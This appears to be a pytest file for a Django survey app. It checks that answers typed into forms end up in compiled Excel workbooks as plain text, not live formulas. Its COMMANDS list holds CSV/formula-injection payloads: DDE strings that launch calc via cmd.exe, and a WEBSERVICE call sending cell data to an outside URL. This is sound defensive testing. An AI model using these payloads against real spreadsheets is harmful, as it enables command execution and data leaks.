"""What has hurt spreadsheets before, typed on the page: stored, compiled, opened, read again."""

import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from onepublic.workbook import read_rows, visible_text
from onepublic.workbook.text import CUT_MARK, LONGEST
from surveys.models import Answer, Assignment, Compilation
from surveys.questionnaire.parsing.texts import MAX_TEXT
from tests.factories.accounts import OrganizationFactory, person_at
from tests.factories.surveys import assignment_of, running_survey
from tests.onepublic.workbook.hostile import CHANGED, UNCHANGED
from tests.surveys.compilation.made import book_of, compiled
from tests.surveys.compilation.office import needs_libreoffice, through_libreoffice

pytestmark = pytest.mark.django_db(transaction=True)
STARTS = ("=", "+", "-", "@", "＝", "＋", " =", "'=", '"=', "=-+", "{=")
COMMANDS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.jp/","見る")',
    'WEBSERVICE("http://example.jp/?"&A1)',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    'DDE("cmd";"/C calc";"x")',
    "SUM(1,1)*cmd|' /C calc'!A0",
    "[1]Sheet1!A1",
    "あ",
)
TEXTS = (
    *UNCHANGED,
    *(text for text in CHANGED if "\r" in text),
    *(start + command for start in STARTS for command in COMMANDS),
)
BATCH = 100
LONG = "長" * LONGEST + "末尾"


def document(count: int) -> dict[str, Any]:
    text = {"type": "longtext", "required": False, "max_length": MAX_TEXT}
    questions = [{"id": f"t{n}", "label": f"文{n}", **text} for n in range(count)]
    sections = [
        {"id": f"s{n}", "title": f"第{n}節", "questions": questions[n : n + BATCH]}
        for n in range(0, count, BATCH)
    ]
    return {"sections": sections, "rules": []}


def asked_of(texts: int) -> Assignment:
    village = OrganizationFactory.create(code="011010", name="=村")
    survey = running_survey(village, document=document(texts))
    return assignment_of(survey, village)


def typed(client: Client, asked: Assignment, texts: tuple[str, ...]) -> dict[str, str]:
    """Sent as the page's script does and submitted; what is stored, by key.

    What a field refuses is cleared, as a person would have to.
    """
    client.force_login(person_at(asked.organization))
    address = f"/surveys/assignments/{asked.pk}/"
    wrong: set[str] = set()
    for first in range(0, len(texts), BATCH):
        batch = list(enumerate(texts))[first : first + BATCH]
        changes = {f"t{n}": {"value": text, "revision": 0} for n, text in batch}
        payload = {"section": f"s{first}", "changes": changes}
        response = client.post(f"{address}answers/", payload, content_type="application/json")
        assert response.status_code == 200, response.content[:200].decode()
        wrong |= set(response.json()["wrong"])
    Answer.objects.filter(assignment=asked, field__in=wrong).delete()
    client.post(f"{address}submission/")
    assert Assignment.objects.get(pk=asked.pk).is_handed_in
    stored = Answer.objects.filter(assignment=asked, value__isnull=False)
    return {answer.field: str(answer.value) for answer in stored}


def content(compilation: Compilation) -> bytes:
    assert compilation.file is not None
    with compilation.file.open() as stream:
        return bytes(stream.read())


def by_openpyxl(book: bytes) -> dict[str, Any]:
    sheet = load_workbook(io.BytesIO(book))["回答一覧"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    ids, _, row, *_ = sheet.values
    return dict(zip(map(str, ids), row, strict=True))


def by_calamine(book: bytes) -> dict[str, Any]:
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(book)).get_sheet_by_name("回答一覧")
    ids, _, row = sheet.to_python()
    return dict(zip(map(str, ids), row, strict=True))


def by_import(book: bytes) -> dict[str, Any]:
    ids, _, row = read_rows(io.BytesIO(book), "回答一覧")
    return dict(zip(map(str, ids), row, strict=False))


def test_nothing_that_was_typed_hurts_or_is_lost(client: Client) -> None:
    asked = asked_of(len(TEXTS))

    stored = typed(client, asked, TEXTS)
    book = content(compiled(asked.survey))

    assert len(TEXTS) > 300
    assert len(stored) > 270
    shown = {key: visible_text(text) for key, text in stored.items()}
    for read in (by_openpyxl, by_calamine, by_import):
        row = read(book)
        assert {key: row[key] for key in shown} == shown, read.__name__
        assert row["#name"] == "=村"


@needs_libreoffice
def test_libreoffice_opens_it_without_repair(client: Client, tmp_path: Path) -> None:
    # When it saves, LibreOffice itself rewrites what looks like an escape (_x0041_), and tabs.
    kept = (text for text in TEXTS if "x00" not in text.lower() and "\t" not in text)
    texts = tuple(text for text in kept if len(text) < 300)
    asked = asked_of(len(texts))

    stored = typed(client, asked, texts)
    row = by_openpyxl(through_libreoffice(content(compiled(asked.survey)), tmp_path))

    assert {key: row[key] for key in stored} == stored


def test_a_text_that_no_cell_holds_is_cut_with_a_mark_and_given_in_full(client: Client) -> None:
    asked = asked_of(2)
    typed(client, asked, ("短い文", "仮"))
    Answer.objects.filter(assignment=asked, field="t1").update(value=LONG)

    compilation = compiled(asked.survey)

    cell = by_openpyxl(content(compilation))["t1"]
    assert (len(cell), cell[-len(CUT_MARK) :]) == (LONGEST, CUT_MARK)
    assert compilation.full_texts is not None
    with compilation.full_texts.open() as stream:
        text = stream.read().decode("utf-8-sig")
    place = f"■ 011010　{asked.organization.prefecture_name}　=村"
    assert text == f"{place}\n　t1　文1（32,769文字）\n\n{LONG}\n\n"
    client.force_login(asked.survey.created_by)
    address = f"/surveys/managed/compilations/{compilation.pk}/"
    assert "長い文の全文（テキスト）" in client.get(address).content.decode()
    assert len(b"".join(client.get(f"{address}full-texts/"))) == len(text.encode()) + 3


def test_where_every_text_fits_there_is_no_further_file(client: Client) -> None:
    asked = asked_of(1)
    typed(client, asked, ("=1+1",))

    compilation = compiled(asked.survey)

    assert compilation.full_texts is None
    assert book_of(compilation)["自由記述"]["G3"].value == "=1+1"
